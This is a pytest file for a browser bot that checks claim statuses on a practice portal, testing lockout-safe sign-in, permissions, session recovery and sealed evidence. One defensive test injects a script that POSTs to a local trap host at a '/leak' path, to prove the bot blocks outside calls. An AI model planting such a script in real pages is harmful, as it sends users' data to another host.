"""Sessions against the practice portal: signed in once, locked out never, nothing lost, nothing guessed."""

import re
from collections.abc import AsyncIterator, Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from httpx import AsyncClient
from playwright.async_api import BrowserContext

from bots.browser import BrowserHost
from bots.elsewhere import Elsewhere
from bots.lane import LEASE_SECONDS
from flows.answers import ClaimState
from flows.outcomes import Code, Ending, stop
from flows.questions import Flow
from ledger import answers, cases, evidence, lanes, permissions, presses, runs, work
from ledger.answers import AnswerRecord
from ledger.errors import CredentialFrozen, LaneBusy, NotPermitted, PortalStopped
from ledger.permissions import Basis, Grant, Status
from tests.bots.night import ALIAS, PORTAL, Night, add_credential, night
from tests.bots.trap_host import trap_host
from tests.practice_portal import PracticePortal
from vault.sealed import SealedFolder

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]


@pytest.fixture
def portal() -> Iterator[PracticePortal]:
    with PracticePortal(PORTAL, seed=11, claims=12) as started:
        yield started


@pytest.fixture
async def office(portal: PracticePortal, host: BrowserHost, tmp_path: Path) -> AsyncIterator[Night]:
    async with night(tmp_path, portal, browser=host) as opened:
        yield opened


def kinds(office: Night) -> list[str]:
    return [event["kind"] for event in office.portal.events()]


async def answered(office: Night) -> list[AnswerRecord]:
    records: list[AnswerRecord] = await office.call(
        lambda: list(answers.list_current(office.person.practice_id, portal=PORTAL))
    )
    return records


async def test_a_night_signs_in_once_answers_every_question_and_signs_out(office: Night) -> None:
    report = await office.run()
    counts = await office.call(
        work.counts, office.person.practice_id, PORTAL, Flow.CLAIM_STATUS, office.work.clock.now()
    )
    assert (report.why, counts.ready, counts.running, counts.total) == ("finished", 0, 0, 12)
    assert (office.presses(), office.presses("code")) == (["accepted"], ["accepted"])
    assert report.signed_out
    assert kinds(office)[-1] == "sign_out"
    assert not office.defects


async def test_the_robot_says_that_it_is_one(office: Night) -> None:
    await office.run(limit=1)
    agents = {event["user_agent"] for event in office.portal.events()}
    assert all("portalwright" in agent and "automated" in agent for agent in agents)


async def test_nothing_is_opened_without_permission(office: Night) -> None:
    prohibited = Grant(
        portal=PORTAL,
        flow=Flow.CLAIM_STATUS,
        status=Status.PROHIBITED,
        basis=Basis.NONE,
        document="",
        granted_to="",
        bot_identity="",
        valid_from=office.work.clock.now().date(),
    )
    await office.call(permissions.grant, prohibited, office.person, office.work.clock.now())
    with pytest.raises(NotPermitted):
        await office.run()
    assert kinds(office) == []


async def test_a_test_systems_permission_opens_no_other_computer(office: Night) -> None:
    elsewhere = office.work.pack.model_copy(update={"address": "https://portal.example"})
    with pytest.raises(NotPermitted):
        await office.run(pack=elsewhere)


async def test_a_wrong_password_is_pressed_once_ever(office: Night) -> None:
    await office.set_password("Wrong-password-1!")
    first = await office.run()
    assert first.stopped is not None
    assert first.stopped.code is Code.ACC_BADPW
    for _ in range(3):
        with pytest.raises(CredentialFrozen):
            await office.run()
    assert office.presses() == ["rejected"]
    counts = await office.call(
        work.counts, office.person.practice_id, PORTAL, Flow.CLAIM_STATUS, office.work.clock.now()
    )
    assert counts.ready == 12


async def test_the_right_password_in_a_new_version_goes_on_after_a_person_cleared_it(office: Night) -> None:
    await office.set_password("Wrong-password-1!")
    await office.run()
    await office.set_password(office.portal.password)
    now = office.work.clock.now()
    await office.call(presses.clear, PORTAL, ALIAS, office.person, "typed wrongly into the vault", now)
    report = await office.run()
    assert report.why == "finished"
    assert office.presses() == ["rejected", "accepted"]


@pytest.mark.parametrize("answer", ["answer-500", "foreign-page"])
async def test_anything_unknown_after_the_press_is_never_pressed_again(office: Night, answer: str) -> None:
    office.portal.faults(password_press=answer)
    report = await office.run()
    office.portal.faults()
    assert report.stopped is not None
    assert report.stopped.code is Code.ACC_UNKNOWN
    with pytest.raises(CredentialFrozen):
        await office.run()
    assert len(office.presses()) == 1
    rule = presses.LockoutRule(3, office.work.pack.lockout.window)
    standing = await office.call(
        presses.standing, office.person.practice_id, PORTAL, ALIAS, 1, rule, now=office.work.clock.now()
    )
    assert standing.bar is presses.Bar.UNKNOWN


async def test_a_press_that_is_never_answered_stays_unproved_and_blocks_the_next(office: Night) -> None:
    office.portal.faults(password_press="hang")
    quick = office.work.pack.model_copy(
        update={"limits": office.work.pack.limits.model_copy(update={"answer_seconds": 2.0})}
    )
    report = await office.run(pack=quick)
    assert report.stopped is not None
    assert report.stopped.code is Code.ACC_UNKNOWN
    office.portal.faults()
    with pytest.raises(CredentialFrozen):
        await office.run()
    assert len(office.presses()) == 1


class CoveredPages:
    """A browser in whose pages something covers everything, as a cookie bar or a survey does."""

    def __init__(self, host: BrowserHost) -> None:
        self._host = host

    async def new_context(self, **options: Any) -> BrowserContext:
        context = await self._host.new_context(**options)
        cover = "const c = document.createElement('div'); c.style = 'position:fixed;inset:0'; document.body.append(c);"
        await context.add_init_script(f"addEventListener('DOMContentLoaded', () => {{ {cover} }})")
        return context


async def test_a_sign_in_button_that_cannot_be_pressed_costs_no_try(office: Night) -> None:
    report = await office.run(browser=CoveredPages(office.work.browser))
    assert report.stopped is not None
    assert report.stopped.code is Code.TECH_LAYOUT
    rule = presses.LockoutRule(3, office.work.pack.lockout.window)
    standing = await office.call(
        presses.standing, office.person.practice_id, PORTAL, ALIAS, 1, rule, now=office.work.clock.now()
    )
    assert (standing.bar, office.presses()) == (None, [])


async def test_a_rejected_code_is_pressed_once(office: Night) -> None:
    add_credential(office.work.vault, office.portal, totp_seed="JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP")
    report = await office.run()
    assert report.stopped is not None
    assert report.stopped.code is Code.ACC_MFA
    with pytest.raises(CredentialFrozen):
        await office.run()
    assert office.presses("code") == ["rejected"]


async def test_a_locked_account_is_told_and_left_alone(office: Night) -> None:
    await office.set_password("Wrong-password-1!")
    await office.run()
    # Somebody at the office tries by hand until the portal locks; a person then clears it too early.
    async with AsyncClient(base_url=office.portal.address, follow_redirects=True) as browser:
        for _ in range(2):
            await press_by_hand(browser, office.portal.user_name)
    now = office.work.clock.now()
    await office.set_password(office.portal.password)
    await office.call(presses.clear, PORTAL, ALIAS, office.person, "tried by hand", now)
    report = await office.run()
    assert report.stopped is not None
    assert report.stopped.code is Code.ACC_LOCKED
    with pytest.raises(CredentialFrozen):
        await office.run()
    assert office.presses()[-1] == "locked"


async def press_by_hand(browser: AsyncClient, user_name: str) -> None:
    page = (await browser.get("/signin")).text
    hidden = dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', page))
    await browser.post("/signin", data={**hidden, "userId": user_name, "password": "also wrong"})


async def test_a_one_time_code_is_never_used_twice(office: Night) -> None:
    await office.run(limit=1)
    await office.run(limit=1)
    assert office.presses("code") == ["accepted", "accepted"]


async def test_a_session_that_ends_in_mid_run_is_signed_in_once_more_and_loses_nothing(office: Night) -> None:
    office.portal.faults(expire_session_after=25)
    report = await office.run()
    assert report.why == "finished"
    counts = await office.call(
        work.counts, office.person.practice_id, PORTAL, Flow.CLAIM_STATUS, office.work.clock.now()
    )
    assert (counts.ready, counts.running) == (0, 0)
    assert "session_expired" in kinds(office)
    assert set(office.presses()) == {"accepted"}
    assert Ending.TRANSIENT not in report.by_ending


async def test_an_idle_session_is_signed_in_again(office: Night) -> None:
    idle = {"after": 3}

    def leave_it_alone(progress: object) -> None:
        idle["after"] -= 1
        if idle["after"] == 0:
            office.portal.expire_sessions()

    report = await office.run(leave_it_alone)
    assert report.why == "finished"
    assert office.presses() == ["accepted", "accepted"]


async def test_a_page_that_lies_to_scripts_does_not_change_what_is_read(office: Night, tmp_path: Path) -> None:
    await office.run()
    before = {record.number: record.answer.normalised for record in await answered(office)}
    office.portal.faults(hostile_script=True)
    await office.call(work.again, PORTAL, Flow.CLAIM_STATUS, office.person, office.work.clock.now())
    report = await office.run()
    after = {record.number: record.answer.normalised for record in await answered(office)}
    assert report.by_ending.get(Ending.ANSWERED, 0) > 0
    assert after == before


async def test_a_session_whose_pages_call_elsewhere_reaches_the_portal_alone_and_tells_how_often(
    office: Night, monkeypatch: pytest.MonkeyPatch
) -> None:
    plain = office.work.browser.new_context

    async def with_calls(**options: Any) -> BrowserContext:
        context = await plain(**options)
        script = f"fetch('http://127.0.0.1:{trap.port}/leak', {{mode: 'no-cors', method: 'POST'}}).catch(() => 0)"
        await context.add_init_script(script)
        return context

    monkeypatch.setattr(office.work.browser, "new_context", with_calls)
    async with trap_host() as trap:
        report = await office.run(limit=1)
    assert (report.why, trap.came) == ("limit reached", [])
    assert report.refused[Elsewhere.OTHER_PORT] > 1


async def test_a_text_that_nobody_mapped_becomes_cases_and_never_an_answer(office: Night) -> None:
    office.portal.faults(unmapped_status=True)
    report = await office.run()
    assert Ending.ANSWERED not in report.by_ending
    opened = await office.call(lambda: list(cases.list_open(office.person.practice_id)))
    assert Code.DATA_UNMAPPED in {case.code for case in opened}


async def test_a_portal_in_maintenance_is_left_alone_and_asked_later(office: Night) -> None:
    office.portal.faults(maintenance=True)
    report = await office.run()
    assert (report.why, office.presses()) == ("portal closed", [])
    office.portal.faults()
    await office.clock.sleep(3660)  # its page says that it is back in an hour
    assert (await office.run()).why == "finished"


async def test_server_errors_are_asked_again_later_and_lose_nothing(office: Night) -> None:
    office.portal.faults(http_500_every=4)
    report = await office.run()
    counts = await office.call(
        work.counts, office.person.practice_id, PORTAL, Flow.CLAIM_STATUS, office.work.clock.now()
    )
    assert report.by_ending[Ending.TRANSIENT] >= 3
    assert (counts.total, counts.running) == (12, 0)
    office.portal.faults()
    await office.work.clock.sleep(3600)
    await office.run()
    counts = await office.call(
        work.counts, office.person.practice_id, PORTAL, Flow.CLAIM_STATUS, office.work.clock.now()
    )
    assert (counts.ready, counts.waiting) == (0, 0)


async def test_only_one_process_at_a_time_runs_a_lane(office: Night) -> None:
    now = office.work.clock.now()
    other = await office.call(
        lanes.take, PORTAL, ALIAS, 0, holder="other:1", actor=office.work.actor, now=now, ttl=timedelta(hours=1)
    )
    with pytest.raises(LaneBusy):
        await office.run(wait_for_lane=False)
    assert kinds(office) == []
    await office.call(lanes.release, other, now)


async def test_a_lease_that_a_dead_process_left_is_taken_over_when_it_ends(office: Night) -> None:
    now = office.work.clock.now()
    await office.call(
        lanes.take,
        PORTAL,
        ALIAS,
        0,
        holder="dead:1",
        actor=office.work.actor,
        now=now,
        ttl=timedelta(seconds=LEASE_SECONDS),
    )
    assert (await office.run()).why == "finished"


async def test_the_evidence_of_an_answer_is_sealed_and_opens_to_the_page_that_was_read(office: Night) -> None:
    await office.run(limit=4)
    record = next(record for record in await answered(office) if isinstance(record.answer.normalised, ClaimState))
    kept = await office.call(evidence.of_attempt, office.person.practice_id, record.attempt_id)
    assert kept is not None
    assert isinstance(record.answer.normalised, ClaimState)
    number = record.answer.normalised.payer_claim_number
    detail = next(file for file in kept.files if file.view == "claim")
    page = office.work.evidence.read(kept.wrapped_key, detail.name, detail.kind)
    assert number.encode() in page
    assert isinstance(office.work.evidence, SealedFolder)
    sealed = b"".join(path.read_bytes() for path in office.work.evidence.folder.rglob("*") if path.is_file())
    assert number.encode() not in sealed


async def test_a_stopped_portal_is_not_asked_until_a_person_has_looked(office: Night) -> None:
    outcome = stop(Ending.REFUSED, Code.ACC_CAPTCHA, "a captcha").outcome
    lease = await office.call(
        lanes.take, PORTAL, ALIAS, 0, holder="x:1", actor=office.work.actor, now=office.work.clock.now()
    )
    await office.call(runs.start, lease, Flow.CLAIM_STATUS, office.work.clock.now())
    await office.call(runs.report, lease, outcome, office.work.clock.now())
    await office.call(lanes.release, lease, office.work.clock.now())
    with pytest.raises(PortalStopped):
        await office.run()
    assert kinds(office) == []
